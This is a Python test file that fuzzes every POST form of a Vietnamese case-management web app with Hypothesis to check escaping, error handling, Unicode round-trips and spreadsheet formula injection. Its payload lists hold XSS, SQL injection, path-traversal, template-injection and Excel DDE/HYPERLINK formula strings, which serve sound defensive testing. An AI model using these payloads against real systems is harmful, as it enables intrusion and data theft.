"""Hostile input: Hypothesis posts generated values to every form of the system.

The forms are discovered, not listed: each role profile of tests/matrix_world.py opens every page the access
matrix allows it, and each `<form method="post">` found there (field names, types, options, hidden values) is
posted again and again with generated values: Vietnamese in NFC and NFD, zero-width and bidi characters, NUL,
64 KiB strings, HTML and htmx attributes, SQL fragments, numbers out of range, malformed dates and ids.

For every answer: never a 5xx; the raw payloads (`<img src=x`, `" hx-get="/x`, `<script>`) never come back
unescaped; bodies past MAX_CONTENT_LENGTH get 413. Then, for key fields (a case's full name, a note, a unit's
name), what the form accepted is read back from the database and must be exactly what was typed (in NFC where
the service stores one Unicode form), and the NFD spelling of a name finds the case stored in NFC.
"""

import os
import re
import unicodedata
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from indicators_helpers import in_force
from matrix_world import OTHER_COMMUNE, OTHER_DISTRICT, Page, login, make_world
from sqlalchemy import delete, select
from test_access_matrix import ENDS_SESSION, OK, _split, _url, expectations

from app.extensions import db

# The SQLite pass runs 15 examples a form (more with HOSTILE_EXAMPLES_PER_FORM); the PostgreSQL pass of
# `make test` fewer: what differs there is the database's answer to the same payloads (NUL in text, say),
# which the fixed payload list keeps frequent. CI must stay under 30 minutes on 2 cores.
EXAMPLES_PER_FORM = int(os.environ.get("HOSTILE_EXAMPLES_PER_FORM", "15"))
# The same form again as htmx sends it (the answer is a fragment).
EXAMPLES_PER_HTMX_FORM = max(1, EXAMPLES_PER_FORM * 2 // 5)
# Profiles that differ from these only by scope see the same forms: one profile of each role is enough.
FORM_PROFILES = ("anon", "counsellor", "reviewer", "agency", "reporter", "monitor", "admin")
MAX_BODY = 1024 * 1024

XSS = "<img src=x onerror=alert(1)>"
HX_ATTR = '" hx-get="/x'
SCRIPT = "<script>alert(1)</script>"
# What must never come back as written: each would be live markup or a live htmx attribute.
RAW_MARKERS = ("<img src=x", 'hx-get="/x', "<script>alert")

NAME_NFC = "Lò Thị Hoà Nguyễn Thuỳ Dương"
PAYLOADS = [
    XSS,
    HX_ATTR,
    SCRIPT,
    f"'>{XSS}",
    f'{HX_ATTR}" hx-trigger="load',
    "{{ 7*7 }}",
    "{% raw %}",
    "${7*7}",
    "' OR '1'='1' --",
    "Robert'); DROP TABLE case_record;--",
    "1; SELECT pg_sleep(1)",
    "%00",
    "%' --",
    "\x00",
    "abc\x00def",
    "\x1b[31m",
    "\u200b",
    "a\u200bb\u200c\u200d",
    "\ufeffBOM",
    "\u202eabc\u202c",
    "\u2066x\u2069",
    "\u061c",
    "\ud7ff",
    "\U0001f600",
    unicodedata.normalize("NFD", NAME_NFC),
    NAME_NFC,
    " ",
    "\t\n\r",
    "../../etc/passwd",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "null",
    "None",
    "true",
    "-1",
    "0",
    "1e400",
    "NaN",
    "99999999999999999999999",
    "-99999999999999999999999",
    "0x1F",
    "2026-02-30",
    "31/12/2026",
    "0000-00-00",
    "9999-99-99",
    "2026-13-01",
    "20260101",
    "1/1/1",
    "00000000-0000-0000-0000-000000000000",
    "not-a-uuid",
    "%s%s%s%n",
    "A" * 300,
]
LONG_VALUES = ["A" * 65536, "ễ" * 21846, (XSS * 2200)[:65536]]
VIETNAMESE = "aăâbcdđeêghiklmnoôơpqrstuưvxyàảãáạằẳẵắặầẩẫấậèẻẽéẹềểễếệìỉĩíịòỏõóọồổỗốộờởỡớợùủũúụừửữứựỳỷỹýỵ ĐƯ"
DATE_VALUES = ["2026-03-02", "1900-01-01", "2100-12-31", "1899-12-31", "9999-12-31", "2026-02-29"]
NUMBER_VALUES = [
    "0",
    "-1",
    "1",
    "1990",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "1e9",
    "1.5",
    "1,5",
    "١٢٣",
    "１２３",
    "+7",
    "  42  ",
]

text_values = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(alphabet=VIETNAMESE + "<>\"'&=/;-_ \u200b\u202e\u0300\u0301\u0323", max_size=80),
    st.text(max_size=40),  # any Unicode, control characters and lone combining marks included
    st.builds(
        lambda a, p, b: a + p + b,
        st.text(alphabet=VIETNAMESE, max_size=20),
        st.sampled_from(PAYLOADS),
        st.text(alphabet=VIETNAMESE, max_size=20),
    ),
    st.builds(lambda t: unicodedata.normalize("NFD", t), st.text(alphabet=VIETNAMESE, min_size=1, max_size=40)),
)
# A 64 KiB value in about one text field in twenty: more often, most bodies would pass 1 MiB and test only the 413.
text_or_long = st.integers(0, 19).flatmap(lambda i: st.sampled_from(LONG_VALUES) if i == 0 else text_values)


def field_values(spec: dict):
    """A strategy of values for one form field, hostile most of the time but sometimes plausible."""
    kind, original = spec["type"], spec["value"]
    if spec["name"] == "csrf_token":
        return st.just(original)
    if kind in ("hidden",):
        return st.one_of(st.just(original), st.just(original), text_values)
    if kind in ("select", "radio", "checkbox"):
        choices = [o for o in spec["options"] if o] or ([original] if original else [])
        plausible = st.sampled_from(choices) if choices else st.just("")
        return st.one_of(plausible, plausible, text_values, st.just(None))
    if kind == "date":
        return st.one_of(st.sampled_from(DATE_VALUES), st.dates().map(date.isoformat), text_values)
    if kind == "number":
        return st.one_of(st.sampled_from(NUMBER_VALUES), st.integers().map(str), text_values)
    if kind in ("submit", "button", "password"):
        return st.one_of(st.just(original), text_values)
    return text_or_long


def _form_body(data, form) -> dict:
    body: dict[str, list[str]] = {}
    for spec in form.fields:
        value = data.draw(field_values(spec), label=spec["name"])
        if value is not None:
            body.setdefault(spec["name"], []).append(value)
    return body


def _size(body: dict) -> int:
    return sum(len(k.encode()) + len(v.encode("utf-8", "surrogatepass")) + 2 for k, vs in body.items() for v in vs)


def assert_safe(response, where: str, body: dict) -> None:
    """No server error, the oversize body refused, no payload reflected unescaped."""
    assert response.status_code < 500, f"{where}: {response.status_code}"
    if _size(body) > MAX_BODY + 4096:
        assert response.status_code == 413, f"{where}: {_size(body)} bytes answered {response.status_code}"
    if not response.mimetype.startswith("text/"):
        return  # an .xlsx export: checked for formula injection in test_exports_never_write_a_formula
    text = response.get_data(as_text=True)
    for marker in RAW_MARKERS:
        if marker in text:
            index = text.index(marker)
            raise AssertionError(f"{where}: {marker!r} reflected unescaped: …{text[max(0, index - 200) : index + 80]}…")
    location = response.headers.get("Location", "")
    assert not any(m in location for m in ("<", '"', "'")), f"{where}: payload in a redirect: {location[:200]}"


# --- the world, and putting the shared reference tables back --------------------------------------------


@pytest.fixture
def world(app):
    """The world, and afterwards the unit tree as it was: units and lineage are reference data that survive the
    wipe between tests, and the admin's unit forms are fuzzed too."""
    from app.units.models import Unit, UnitLineage

    with app.app_context():
        before_units = set(db.session.scalars(select(Unit.id)))
        before_links = set(db.session.scalars(select(UnitLineage.id)))
    built = make_world(app)
    with app.app_context():
        far = db.session.scalar(select(Unit).where(Unit.code == OTHER_COMMUNE))
        saved = (far.id, far.name, far.valid_from, far.valid_to, far.disabled)
        db.session.remove()
    yield built
    from helpers import wipe

    wipe(app)
    with app.app_context():
        db.session.execute(delete(UnitLineage).where(UnitLineage.id.not_in(before_links)))
        extra = db.session.scalars(
            select(Unit).where(Unit.id.not_in(before_units | {saved[0]})).order_by(Unit.path.desc())
        ).all()
        for unit in extra:
            if unit.code != OTHER_DISTRICT:
                db.session.delete(unit)
                db.session.flush()
        far = db.session.get(Unit, saved[0])
        far.name, far.valid_from, far.valid_to, far.disabled = saved[1:]
        db.session.commit()
        db.session.remove()


# --- discovering the forms -------------------------------------------------------------------------------

# Forms every signed-in profile has (own password, language, two-step sign-in): fuzzed as one profile only.
SHARED = {"auth.password", "auth.totp", "auth.totp_setup", "web.set_language", "auth.setup", "auth.step_up"}
# Last, because they take objects away from the others (erasure, withdrawal): the rest runs first.
DESTRUCTIVE = (
    "cases.erase_decide",
    "referrals.withdraw",
    "referrals.destroy",
    "admin.set_active",
    "admin.remove_role",
    "referrals.agency_unmap",
)


def discover_forms(app, world, profile: str, client) -> list[tuple[str, object]]:
    """(endpoint, form) for every POST form on the pages this profile may open."""
    adapter = app.url_map.bind("localhost")
    forms, seen = [], set()
    for endpoint, key, variant, expected in expectations(profile):
        method, target = _split(key)
        if method != "GET" or target or expected != OK or endpoint not in app.view_functions:
            continue
        if endpoint in ("assets.static_file", "web.neutral", "web.healthz", "web.favicon") or endpoint in ENDS_SESSION:
            continue
        params = dict(world.params.get(variant, {}))
        if endpoint.startswith("units."):
            params["unit_id"] = world.extra["far_commune_id"]  # never a real unit of Tuần Giáo
        path = _url(app, endpoint, params)
        page = client.get(path)
        if page.status_code != 200 or page.mimetype != "text/html":
            continue  # redirects, and the .xlsx exports
        for form in Page(page.get_data(as_text=True), url=path).forms:
            if form.method != "post":
                continue
            action = form.action.split("#")[0]
            try:
                found, _ = adapter.match(action.split("?")[0], method="POST")
            except Exception:  # noqa: BLE001 - an action outside the app would be reported below
                raise AssertionError(f"{path}: a form posts to {action}, which no route serves") from None
            if found in ENDS_SESSION or (found in SHARED and profile != "counsellor"):
                continue
            signature = (action, tuple(sorted(f["name"] for f in form.fields)))
            if signature not in seen:
                seen.add(signature)
                forms.append((found, form))
    return sorted(forms, key=lambda f: f[0] in DESTRUCTIVE)


def fuzz_form(client, endpoint: str, form, headers: dict, examples: int) -> int:
    """Post `examples` generated bodies to one form; returns how many were sent."""
    sent = []

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(st.data())
    def run(data):
        body = _form_body(data, form)
        response = client.post(form.action, data=body, headers=headers)
        sent.append(1)
        assert_safe(response, f"{endpoint} {form.action}", body)

    run()
    return len(sent)


@pytest.mark.timeout(900)  # about a minute alone; several minutes when two profiles share a loaded machine
@pytest.mark.parametrize("profile", FORM_PROFILES)
def test_every_form_survives_hostile_input(app, world, profile):
    client = login(app.test_client(), world, profile)
    forms = discover_forms(app, world, profile, client)
    if profile in ("counsellor", "admin", "anon"):
        assert forms, f"{profile}: no form found"
    total = 0
    for endpoint, form in forms:
        total += fuzz_form(client, endpoint, form, {}, EXAMPLES_PER_FORM)
        if form.hx_target:  # the same form as htmx sends it: the fragment must be as safe
            total += fuzz_form(
                client, endpoint, form, {"HX-Request": "true", "HX-Target": form.hx_target}, EXAMPLES_PER_HTMX_FORM
            )
        if profile != "anon" and client.get("/auth/account").status_code != 200:
            client = login(app.test_client(), world, profile)  # a fuzzed form may end the session: sign in again
    assert total >= len(forms)  # forms with no free field (a lone button) run out of distinct examples early


# --- oversize bodies ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/auth/login", "/cases/new", "/cases/"])
def test_a_body_over_one_mebibyte_gets_413(app, world, path):
    client = login(app.test_client(), world, "counsellor")
    response = client.post(path, data={"full_name": "Ơ" * (MAX_BODY // 2 + 10), "q": "x"})
    assert response.status_code == 413
    assert "quá lớn" in response.get_data(as_text=True)


# --- what was accepted is stored exactly ---------------------------------------------------------------

names = st.one_of(
    st.text(alphabet=VIETNAMESE + "'-.\u200b\u202e", min_size=1, max_size=50),
    st.builds(lambda t: unicodedata.normalize("NFD", t), st.text(alphabet=VIETNAMESE, min_size=1, max_size=40)),
    st.sampled_from(
        [
            NAME_NFC,
            unicodedata.normalize("NFD", NAME_NFC),
            XSS,
            HX_ATTR[:60],
            "O'Brien; --",
            "Lò\u200bThị",
            "\u202eiaM ihT òL",
        ]
    ),
).filter(lambda t: t.strip() and not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", t))

SLOW = settings(
    max_examples=EXAMPLES_PER_FORM,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def _nfc(value: str) -> str:
    return unicodedata.normalize("NFC", value).strip()


def test_case_full_names_round_trip_and_nfd_finds_nfc(app, world, unit):
    from app.cases.models import Case

    client = login(app.test_client(), world, "counsellor")
    unit_id = unit("TA-02").id

    @SLOW
    @given(name=names)
    def run(name):
        response = client.post(
            "/cases/new",
            data={
                "kind": "dv",
                "unit_id": unit_id,
                "opened_on": "2026-03-02",
                "sex": "female",
                "age_band": "30_44",
                "ethnic_code": "03",
                "poverty_status": "poor",
                "risk_level": "high",
                "full_name": name,
                "confirm_duplicate": "y",
            },
        )
        assert_safe(response, "intake", {})
        assert response.status_code == 303, response.get_data(as_text=True)[:2000]
        case_id = response.headers["Location"].rsplit("/", 1)[-1]
        with app.app_context():
            stored = db.session.get(Case, case_id).full_name
            db.session.remove()
        assert stored == _nfc(name)
        page = client.get(f"/cases/{case_id}").get_data(as_text=True)
        from markupsafe import escape

        assert str(escape(stored)) in page
        found = client.post("/cases/", data={"q": unicodedata.normalize("NFD", stored)}).get_data(as_text=True)
        assert f"/cases/{case_id}" in found, "the NFD spelling must find the case stored in NFC"

    run()


def test_note_bodies_round_trip(app, world):
    from app.cases.models import CaseNote

    client = login(app.test_client(), world, "counsellor")
    case_id = world.params["own"]["case_id"]
    bodies = st.one_of(
        names,
        st.text(alphabet=VIETNAMESE + "\n<>&\"'", min_size=1, max_size=300),
        st.just('Dòng một\nDòng hai — <b>đậm?</b> & "trích"'),
    )

    @SLOW
    @given(body=bodies.filter(lambda t: t.strip() and not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", t)))
    def run(body):
        response = client.post(f"/cases/{case_id}/notes", data={"note-body": body})
        assert_safe(response, "note", {})
        assert response.status_code == 303, response.get_data(as_text=True)[:2000]
        with app.app_context():
            newest = db.session.scalars(
                select(CaseNote).where(CaseNote.case_id == case_id).order_by(CaseNote.created_at.desc()).limit(1)
            ).one()
            stored = newest.body
            db.session.remove()
        assert stored == _nfc(body.replace("\r\n", "\n"))

    run()


def test_unit_names_round_trip(app, world):
    from app.units.models import Unit

    client = login(app.test_client(), world, "admin")
    parent_id = world.extra["far_commune_id"]
    counter = iter(range(10_000))

    @SLOW
    @given(name=names)
    def run(name):
        code = f"TD-KHAC-V{next(counter)}"
        response = client.post(
            "/admin/units/new", data={"code": code, "kind": "village", "name": name, "parent": parent_id}
        )
        assert_safe(response, "unit", {})
        assert response.status_code == 303, response.get_data(as_text=True)[:2000]
        with app.app_context():
            stored = db.session.scalar(select(Unit.name).where(Unit.code == code))
            db.session.remove()
        assert stored == name.strip()

    run()


# --- exports: what people typed never becomes a formula -------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm để xem")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1,2)",
    "-2+3",
]


def _formula_cells(xlsx: bytes) -> list[str]:
    from io import BytesIO

    from openpyxl import load_workbook

    book = load_workbook(BytesIO(xlsx))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_exports_never_write_a_formula(app, world):
    """A report's narrative and a unit's name typed as '=…' are exported as text, never as live formulas
    (formula injection: the district opens the official report in Excel)."""
    from app.indicators import queries, services
    from app.indicators.models import Submission
    from app.units.models import Unit

    with app.test_request_context():
        sub = db.session.get(Submission, world.params["own"]["submission_id"])
        values = {
            (ind.id, kind): (5, 8 if ind.is_percent else None, {})
            for ind in queries.indicators()
            for kind in services.required_kinds(sub.cycle)
            if not ind.derived
        }
        with in_force():  # the world's reports are the 2022 plan's, archived since
            services.save_draft(
                sub,
                values,
                {"results": FORMULAS[0], "difficulties": FORMULAS[1], "recommendations": FORMULAS[2]},
                actor="test",
            )
            services.submit(sub, actor="test")
        far = db.session.get(Unit, world.extra["far_commune_id"])
        far.name = FORMULAS[0]  # put back by the world fixture
        db.session.commit()
        db.session.remove()
    reviewer = login(app.test_client(), world, "reviewer")
    export = reviewer.get("/indicators/export.xlsx?year=2026")
    assert export.status_code == 200 and export.mimetype.endswith("sheet")
    assert _formula_cells(export.data) == []
    far_reviewer = login(app.test_client(), world, "reviewer_other")
    for client in (reviewer, far_reviewer):
        overview = client.post("/livelihood/overview/export", data={"year": "2026"})
        assert overview.status_code == 200, overview.status_code
        assert _formula_cells(overview.data) == []


def test_a_nul_byte_in_an_id_finds_nothing(app, world):
    """PostgreSQL refuses a NUL in a query: an id carrying one must be refused before (never a 503 'try again')."""
    client = login(app.test_client(), world, "reporter")
    activity = world.params["own"]["activity_id"]
    refused = client.post(
        f"/indicators/activities/{activity}/status", data={"unit_id": "\x00", "year": "2026", "status": "done"}
    )
    assert refused.status_code == 404
    started = client.post(
        "/indicators/reports/start", data={"unit_id": world.extra["report_unit_id"], "cycle_id": "\x00"}
    )
    assert started.status_code < 500
    assert client.get("/indicators/?unit=%00").status_code < 500
    for path in ("/cases/", "/referrals/", "/livelihood/"):
        assert login(app.test_client(), world, "counsellor").post(path, data={"q": "\x00"}).status_code < 500
